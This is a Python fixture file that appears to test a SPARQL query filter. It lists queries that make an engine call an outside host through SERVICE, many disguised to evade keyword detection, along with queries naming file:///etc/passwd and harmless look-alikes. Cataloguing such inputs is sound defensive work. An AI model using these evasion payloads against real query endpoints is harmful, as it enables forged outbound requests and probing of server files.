"""Queries that call another machine if the engine gets to read them; URL stands for that machine."""

#: Each was seen to connect from pyoxigraph 0.5.13, so each is an attack and none a curiosity.
CALLS = (
    "SELECT * { SERVICE <URL> {} }",
    "SELECT * { SERVICE SILENT <URL> {} }",
    "SELECT * { sErViCe<URL>{} }",
    "SELECT * { SERVICE# a comment is a blank\n<URL> {} }",
    "BASE <URL> SELECT * { SERVICE <x> {} }",
    "PREFIX e: <URL> SELECT * { SERVICE e:x {} }",
    # Keywords need no blank after them …
    "PREFIX e: <URL> SELECT * { SERVICEe:x{} }",
    "PREFIX e: <URL> SELECT * { SERVICESILENTe:x{} }",
    # … nor before them.
    "PREFIX e: <URL> SELECT * { FILTER(1=1)SERVICEe:x{} }",
    "SELECT * { VALUES ?v {1}SERVICE<URL>{} }",
    # A comparison and a comment, or an IRI? The engine says the former.
    "PREFIX e: <URL> SELECT * { ?s ?p ?o FILTER(1<2||?o<?s#>\n)SERVICE e:x{} }",
    'PREFIX e: <URL> SELECT * { ?s ?p ?o FILTER(1<2||?o<?s#>"""\n)SERVICE e:x{}#"""\n}',
    "PREFIX e: <URL> SELECT * { ?s ?p ?o FILTER(1<2||?o<?s#>'''\n)SERVICE e:x{}#'''\n}",
    # A wrong escape makes two short strings of a long one.
    'PREFIX e: <URL> SELECT * { VALUES ?v {"""a" e:b\\- } SERVICE e:x {} #"""\n}',
    "PREFIX e: <URL> SELECT * { VALUES ?v {'''a' e:b\\- } SERVICE e:x {} #'''\n}",
    # Escapes in local names open neither comments nor strings.
    "PREFIX e: <URL> SELECT * { OPTIONAL { ?s ?p e:a\\# . } SERVICE e:x {}\n}",
    "PREFIX e: <URL> SELECT * { OPTIONAL { ?s ?p e:a\\' . } SERVICE e:x {} OPTIONAL { ?s ?p 'x' } }",
    # No character, so no escape: a reader that sees this makes two short strings of a long one.
    'PREFIX e: <URL> SELECT * { VALUES ?v { """a" } #\\uD800\n SERVICE e:x {} #"""\n}',
    'PREFIX e: <URL> SELECT * { VALUES ?v { """a" } #\\U00110000\n SERVICE e:x {} #"""\n}',
    # A prefixed name ends early where the whole of it would be no IRI (this one: no port).
    "PREFIX e: <http://example.org:80> SELECT * { ?s ?p e:SERVICE<URL>{} }",
    "PREFIX e: <http://example.org:80> PREFIX u: <URL> SELECT * { ?s ?p e:SERVICESILENTu:x{} }",
    "PREFIX e: <URL> SELECT * { ?s ?p e:.SERVICE e:x {} }",
    # A prefixed name, or a call of one without a prefix?
    "PREFIX service: <urn:example:> PREFIX : <URL> SELECT * { service:x {} }",
    "PREFIX : <URL> SELECT * { SERVICE:{} }",
    "PREFIXe:<URL>SELECT*{SERVICEe:{}}",
    # Wherever a group may stand.
    "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE <URL> {} } }",
    "SELECT * { ?s ?p ?o FILTER NOT EXISTS { SERVICE <URL> {} } }",
    "SELECT * { ?s ?p ?o MINUS { SERVICE <URL> { ?s ?p ?o } } }",
    "SELECT * { OPTIONAL { SERVICE <URL> {} } }",
    "SELECT * { {} UNION { SERVICE <URL> {} } }",
    "SELECT * { LATERAL { SERVICE <URL> {} } }",
    "SELECT * { { SELECT * { SERVICE <URL> {} } } }",
    "SELECT * { GRAPH ?g { SERVICE <URL> {} } }",
    "SELECT (EXISTS { SERVICE <URL> {} } AS ?x) {}",
    "SELECT (COUNT(*) AS ?n) {} GROUP BY ?s HAVING(EXISTS { SERVICE <URL> {} })",
    "SELECT * {} ORDER BY (EXISTS { SERVICE <URL> {} })",
    "ASK { SERVICE <URL> {} }",
    "CONSTRUCT { ?s ?p ?o } { SERVICE <URL> { ?s ?p ?o } }",
    "DESCRIBE ?s { SERVICE <URL> { ?s ?p ?o } }",
)
#: Forms that this engine refuses today and another version may take.
REFUSED_TODAY = (
    "SELECT * { \\u0053ERVICE <URL> {} }",
    "SELECT * { S\\U00000045RVICE <URL> {} }",
    "SELECT * { SERVICE ?endpoint {} VALUES ?endpoint { <URL> } }",
    "LOAD <URL>",
    "LOAD SILENT <URL> INTO GRAPH <http://example.org/g>",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "DELETE WHERE { ?s ?p ?o }",
)
#: Taken, and answered from the graphs that are here.
DATASETS = (
    "SELECT * FROM <URL> { ?s ?p ?o }",
    "SELECT * FROM NAMED <URL> { GRAPH ?g { ?s ?p ?o } }",
    "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "SELECT * FROM NAMED <file:///etc/passwd> { GRAPH ?g { ?s ?p ?o } }",
    "SELECT * { GRAPH <URL> { ?s ?p ?o } }",
)
#: Harmless, and the word is in them all the same.
INNOCENT = (
    'SELECT * { ?s ?p "public service" }',
    "SELECT ?service { ?service ?p '''a \" service''' } # SERVICE <http://example.org/>",
    'SELECT * { ?s a <http://example.org/service#Service> , "don\'t \\" service \\u0041" }',
    "PREFIX r: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> SELECT * { ?service r:type ?o }",
)
#: Legal, though it looks suspicious to who reads too little or too much of it.
LEGAL = (
    "PREFIX ex: <urn:example#> ASK { ?s ex:p ?o }",
    "PREFIX : <#> SELECT * { <#me> :knows ?service } # the SERVICE <http://example.org/> {",
    "BASE <urn:example#> ASK {}",
    'PREFIX ex: <#it\'s> SELECT * { ?s ex:p "SERVICE <http://example.org/> {}" }',
    "PREFIX service: <http://example.org/service#> SELECT * { ?s service:name ?name ; a service:Service }",
    "PREFIX service: <urn:s> SELECT * FROM service:g { GRAPH service:g { ?s service:p service:o } }",
    "PREFIX schema: <https://schema.org/> SELECT * { ?s a schema:Service . { ?s schema:serviceType ?type } }",
    "PREFIX ex: <urn:e:> DESCRIBE ex:service { _:service1 ex:p ex:service }",
    'VERSION "1.2" SELECT * { ?s ?p ?o }',
    "VERSION '1.2-basic'\nPREFIX : <urn:e#> ASK { :service :p 1 }",
    "PREFIX : <urn:e#> # one\nPREFIX\n# two\n:<urn:e>#three\nSELECT*{:a :b :c}",
    "PREFIX e: <urn:e#> SELECT * { ?s e:service\\-1 ?o FILTER(?o<?s) }",
)
#: What queries are made of, and above all what could hide a word from one reader and not from another.
FRAGMENTS = (
    *("SERVICE", "SERVICE e:x{}", " service <URL> {} ", "SILENT", "e:x", "e:a\\-", "e:a\\#", "e:a\\'", "a:"),
    *("<URL>", "<", "<a", "<a#>", "<?s", "?o", "? ", "?s ?p ?o .", "1<2||?o<?s#>", "FILTER(", ")", "{", "}"),
    *(
        '"',
        "'",
        '""',
        "''",
        '"""',
        "'''",
        "\\",
        '\\"',
        "\\u0022",
        "#",
        "#\n",
        "\n",
        " ",
        " {} ",
        "a",
        "1",
        "@en",
    ),
    *(
        "VALUES ?v {",
        "OPTIONAL {",
        ">",
        "=",
        "||",
        "^^",
        ".",
        "- ",
        "PREFIX ",
        "PREFIX a:<b>",
        "BASE<a>",
        "FROM ",
    ),
)
